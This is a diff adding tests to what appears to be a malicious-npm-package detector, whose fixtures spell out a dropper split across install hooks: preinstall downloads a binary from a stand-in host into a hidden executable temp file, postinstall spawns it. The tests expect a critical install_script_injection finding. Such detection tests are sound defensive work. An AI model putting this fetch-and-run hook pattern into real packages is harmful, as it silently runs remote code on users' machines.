@@ -2642,6 +2642,40 @@ module.exports = () => fetch('https://api.github.com/user', { headers: { Authori
   });
 });
 
+describe('a dropper split over two install hooks', () => {
+  const hooks = (fetchJs: string, runJs: string) =>
+    analyzeSource({
+      'package.json': pkg({ scripts: { preinstall: 'node fetch.js', postinstall: 'node run.js' } }),
+      'fetch.js': fetchJs,
+      'run.js': runJs,
+    });
+  const fetchJs = `const https = require('https'); const fs = require('fs'); const os = require('os'); const path = require('path');
+https.get('https://cdn.example-bins.dev/h', (r) => r.pipe(fs.createWriteStream(path.join(os.tmpdir(), '.nodecache'), { mode: 0o755 })));`;
+  it('preinstall downloads to a hidden temporary file, postinstall runs it', () => {
+    const r = hooks(
+      fetchJs,
+      `const path = require('path'); const os = require('os'); const { spawn } = require('child_process');
+spawn(path.join(os.tmpdir(), '.nodecache'), [], { stdio: 'inherit' });`,
+    );
+    expect(r.risk_level).toBe('critical');
+    expect(threatsOf(r)).toContain('install_script_injection');
+  });
+  it('the same steps with a checksum check, or a postinstall that only reads the file, stay quiet', () => {
+    const verified = hooks(
+      `${fetchJs}\nconst crypto = require('crypto'); exports.ok = (b) => crypto.createHash('sha256').update(b).digest('hex');`,
+      `const path = require('path'); const os = require('os'); const { spawn } = require('child_process');
+spawn(path.join(os.tmpdir(), '.nodecache'), [], { stdio: 'inherit' });`,
+    );
+    expect(threatsOf(verified)).not.toContain('install_script_injection');
+    const read = hooks(
+      fetchJs,
+      `const fs = require('fs'); const path = require('path'); const os = require('os');
+console.log(fs.readFileSync(path.join(os.tmpdir(), '.nodecache')).length);`,
+    );
+    expect(threatsOf(read)).not.toContain('install_script_injection');
+  });
+});
+
 describe('two samples rewritten as an attacker would', () => {
   it('the terminal flood moved into a helper file the entry requires, its text in a config object, do … while (1)', () => {
     const r = analyzeSource({
